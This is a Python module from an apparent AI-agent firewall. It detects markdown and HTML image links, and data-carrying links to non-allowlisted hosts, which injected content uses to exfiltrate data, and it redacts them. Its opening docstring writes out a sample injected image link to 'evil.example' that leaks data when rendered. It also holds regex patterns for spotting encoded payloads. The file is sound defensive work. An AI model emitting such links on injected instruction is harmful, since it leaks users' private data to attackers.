"""Markdown image and link exfiltration: an image the agent's UI renders fetches its URL with no
click, so an injected `![x](https://evil.example/?d=<data>)` leaks data. Flagged: images to any
domain not allowlisted, and links whose URL carries an encoded payload (a long token of letters
and digits, or %-escapes: base64, an escaped query) to such a domain. A deep link of words, a
commit hash or a short token (a password-reset link's) is ordinary text."""

from __future__ import annotations

import re
from collections.abc import Iterable, Sequence
from urllib.parse import urlsplit

from firewall.detect.base import Detection, Segment

_MARKDOWN = re.compile(r"(!?)\[[^\]\n]{0,500}\]\(\s*<?(https?://[^\s)>]+)>?(?:\s+\"[^\"]*\")?\s*\)")
_HTML_IMAGE = re.compile(r"<img\b[^>]*\bsrc\s*=\s*[\"']?(https?://[^\s\"'>]+)", re.IGNORECASE)
# One path segment, query value or fragment of 24 or more characters: a candidate payload. A deep
# path of words (/en/latest/reference/config.html, /auth/password-reset/) is not one, nor a slug.
# A commit hash or a UUID is an identifier, not a payload.
_TOKEN = re.compile(r"(?<=[?#&=/])[A-Za-z0-9+_%=.\-]{24,}")
_SLUG = re.compile(r"[A-Za-z]+(?:[-_.][A-Za-z]+)*")
_IDENTIFIER = re.compile(r"[0-9a-fA-F]+|[0-9a-fA-F]{8}(?:-[0-9a-fA-F]{4}){3}-[0-9a-fA-F]{12}")


def _carries_data(url: str) -> bool:
    """Whether a URL holds an encoded payload: a long token with %-escapes, or digits among its
    letters (base64, an escaped query), that is neither a slug of words nor a hash or UUID."""
    rest = url.split("://", 1)[-1]
    for token in _TOKEN.findall(rest):
        if _SLUG.fullmatch(token) or _IDENTIFIER.fullmatch(token):
            continue
        if "%" in token or (any(c.isdigit() for c in token) and any(c.isalpha() for c in token)):
            return True
    return False


class ExfilLinkDetector:
    """Flags markdown and HTML images, and links carrying a data-like payload, whose host is not
    in ``allowed_domains`` (a domain allows its subdomains too)."""

    name = "exfil"

    def __init__(self, allowed_domains: Iterable[str] = ()) -> None:
        self.allowed = tuple(d.lower().lstrip(".") for d in allowed_domains)

    def allowed_host(self, url: str) -> bool:
        """Whether the URL's host is an allowed domain or a subdomain of one."""
        host = (urlsplit(url).hostname or "").lower()
        return any(host == d or host.endswith("." + d) for d in self.allowed)

    async def detect(self, segments: Sequence[Segment]) -> list[Detection]:
        """Findings (action redact) for each offending image or link, spanning its markup."""
        found: list[Detection] = []
        for path, text in segments:
            for match in _MARKDOWN.finditer(text):
                image, url = match.group(1) == "!", match.group(2)
                if self.allowed_host(url):
                    continue
                if image:
                    found.append(
                        Detection(
                            self.name,
                            "detect.exfil.markdown_image",
                            f"image from a non-allowlisted host loads without a click: {url[:120]}",
                            path,
                            *match.span(),
                            action="redact",
                        )
                    )
                elif _carries_data(url):
                    found.append(
                        Detection(
                            self.name,
                            "detect.exfil.data_link",
                            f"link carrying a data-like payload to a non-allowlisted host: {url[:120]}",
                            path,
                            *match.span(),
                            score=0.7,
                            action="redact",
                        )
                    )
            for match in _HTML_IMAGE.finditer(text):
                if not self.allowed_host(match.group(1)):
                    found.append(
                        Detection(
                            self.name,
                            "detect.exfil.html_image",
                            f"HTML image from a non-allowlisted host: {match.group(1)[:120]}",
                            path,
                            *match.span(),
                            action="redact",
                        )
                    )
        return found
